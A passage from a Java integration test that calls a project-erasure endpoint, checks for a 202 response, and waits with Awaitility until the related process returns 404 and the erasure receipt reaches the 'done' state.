        Answer erasure = api.post("/v1/projects/" + project + "/erase", Map.of());
        assertEquals(202, erasure.status(), erasure.text());

        // Then
        Awaitility.await()
                .atMost(SOON)
                .until(() -> api.get("/v1/processes/" + process).status() == 404);
        String receipt = "/v1/erasures/" + erasure.json().path("erasure").asText();
        Awaitility.await()
                .atMost(SOON.multipliedBy(3))
                .until(() -> api.get(receipt).json().path("state").asText().equals("done"));
    }
}
